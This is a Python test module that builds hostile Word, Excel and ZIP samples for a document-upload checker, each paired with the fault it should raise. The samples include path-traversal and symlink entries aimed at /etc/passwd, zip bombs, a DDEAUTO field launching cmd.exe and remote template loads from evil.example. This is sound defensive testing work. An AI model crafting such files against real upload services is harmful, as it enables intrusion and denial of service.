"""Word, Excel, other archives, and signatures."""

from __future__ import annotations

import io
import struct
import zipfile
from functools import partial
from typing import Any

from motcua.files.rules.faults import Fault
from motcua.files.rules.kinds import Kind
from tests.files.corpus.sample import MEGABYTE, Sample

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-{kind}+xml"/></Types>'
)
_RELATIONS = '<?xml version="1.0"?><Relationships>{}</Relationships>'
_RELATION = (
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/>'
)


def archive(parts: dict[str, bytes | str], **how: Any) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **how) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def office(main: str, more: dict[str, bytes | str] | None = None, types: str = "") -> bytes:
    kind = "officedocument.wordprocessingml.document.main"
    return archive(
        {
            "[Content_Types].xml": types or _TYPES.format(main=main, kind=kind),
            "_rels/.rels": _RELATIONS.format(""),
            main: '<?xml version="1.0"?><w:document>Đơn đề nghị</w:document>',
            **(more or {}),
        }
    )


docx = partial(office, "word/document.xml")
xlsx = partial(office, "xl/workbook.xml")


def linking(kind: str, target: str) -> bytes:
    relations = _RELATIONS.format(_RELATION.format(kind=kind, target=target))
    return docx({"word/_rels/document.xml.rels": relations})


def macro_type() -> bytes:
    return docx(types=_TYPES.format(main="word/document.xml", kind="x.macroEnabled.main"))


def dde_docx() -> bytes:
    field = "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>"
    return docx({"word/header1.xml": field})


def utf16_docx() -> bytes:
    text = '<?xml version="1.0"?><w:instrText>DDEAUTO cmd</w:instrText>'
    return docx({"word/header1.xml": text.encode("utf-16")})


def doctype_docx() -> bytes:
    return docx({"word/header1.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><w:hdr/>"})


def zip_bomb() -> bytes:
    return docx({"word/media/a.bmp": bytes(60 * MEGABYTE)})


def crowded_zip() -> bytes:
    return docx({f"word/media/{n}": b"" for n in range(6_000)})


def overlapping_zip() -> bytes:
    """Two names for the same bytes."""
    whole = bytearray(docx({"word/media/a": b"A" * 500, "word/media/b": b"A" * 500}))
    first = whole.index(b"word/media/a") - 30
    place = whole.rindex(b"word/media/b") - 46
    whole[place + 42 : place + 46] = struct.pack("<I", first)
    return bytes(whole)


def linked_zip() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        link = zipfile.ZipInfo("word/media/link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked_zip() -> bytes:
    whole = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.index(signature) + place
        whole[at] |= 1
    return bytes(whole)


def twin_zip() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("WORD/document.xml", "<w:document>khác</w:document>")
    return out.getvalue()


def signature(length: int = 200) -> bytes:
    inner = bytes.fromhex("06092a864886f70d010702") + bytes(length)
    return b"\x30\x82" + struct.pack(">H", len(inner)) + inner


SAMPLES = [
    Sample("Word", "don.docx", docx, kind=Kind.DOCX),
    Sample("Excel", "bang.xlsx", xlsx, kind=Kind.XLSX),
    Sample(
        "Word with a link to click",
        "don.docx",
        partial(linking, "hyperlink", "https://dichvucong.gov.vn"),
        kind=Kind.DOCX,
    ),
    Sample(
        "Word with a chart's own table",
        "don.docx",
        partial(docx, {"word/embeddings/Bang1.xlsx": b"PK"}),
        kind=Kind.DOCX,
    ),
    Sample("signature", "don.pdf.p7s", signature, kind=Kind.P7S),
    Sample("ZIP of papers", "a.zip", partial(archive, {"don.pdf": b"%PDF-"}), Fault.FORBIDDEN_KIND),
    Sample("ZIP called Word", "a.docx", partial(archive, {"a.txt": "a"}), Fault.FORBIDDEN_KIND),
    Sample(
        "ZIP that climbs out",
        "a.docx",
        partial(docx, {"../../etc/cron.d/a": "x"}),
        Fault.ODD_ARCHIVE,
    ),
    Sample(
        "ZIP with an absolute path",
        "a.docx",
        partial(docx, {"/etc/passwd": "x"}),
        Fault.ODD_ARCHIVE,
    ),
    Sample("ZIP with a link out of it", "a.docx", linked_zip, Fault.ODD_ARCHIVE),
    Sample("ZIP with one name twice", "a.docx", twin_zip, Fault.ODD_ARCHIVE),
    Sample("ZIP bomb", "a.docx", zip_bomb, Fault.BOMB),
    Sample("ZIP of 6,000 entries", "a.docx", crowded_zip, Fault.BOMB),
    Sample("ZIP whose entries share bytes", "a.docx", overlapping_zip, Fault.BOMB),
    Sample("ZIP with a password", "a.docx", locked_zip, Fault.ENCRYPTED),
    Sample("half a Word file", "a.docx", lambda: docx()[:300], Fault.DAMAGED),
    Sample(
        "Word with a macro", "a.docx", partial(docx, {"word/vbaProject.bin": b"x"}), Fault.MACRO
    ),
    Sample("Word that says it has macros", "a.docx", macro_type, Fault.MACRO),
    Sample(
        "Word with ActiveX",
        "a.docx",
        partial(docx, {"word/activeX/activeX1.xml": "x"}),
        Fault.MACRO,
    ),
    Sample(
        "Excel with old macros",
        "a.xlsx",
        partial(xlsx, {"xl/macrosheets/sheet1.xml": "x"}),
        Fault.MACRO,
    ),
    Sample(
        "Word with a program in it",
        "a.docx",
        partial(docx, {"word/media/a.exe": b"MZ"}),
        Fault.MACRO,
    ),
    Sample(
        "Word with an object in it",
        "a.docx",
        partial(docx, {"word/embeddings/oleObject1.bin": b"x"}),
        Fault.EMBEDDED_FILE,
    ),
    Sample(
        "Word that loads its template from outside",
        "a.docx",
        partial(linking, "attachedTemplate", "http://evil.example/a.dotm"),
        Fault.OUTSIDE_LINK,
    ),
    Sample(
        "Word that loads a picture from outside",
        "a.docx",
        partial(linking, "image", "http://evil.example/pixel"),
        Fault.OUTSIDE_LINK,
    ),
    Sample("Word that starts a program by DDE", "a.docx", dde_docx, Fault.OUTSIDE_LINK),
    Sample("Word that hides it in UTF-16", "a.docx", utf16_docx, Fault.ODD_ARCHIVE),
    Sample("Word with a DOCTYPE", "a.docx", doctype_docx, Fault.ODD_ARCHIVE),
    Sample(
        "Excel linked to another",
        "a.xlsx",
        partial(xlsx, {"xl/externalLinks/externalLink1.xml": "x"}),
        Fault.OUTSIDE_LINK,
    ),
    Sample("signature cut short", "a.p7s", lambda: signature()[:-10], Fault.UNKNOWN_KIND),
]
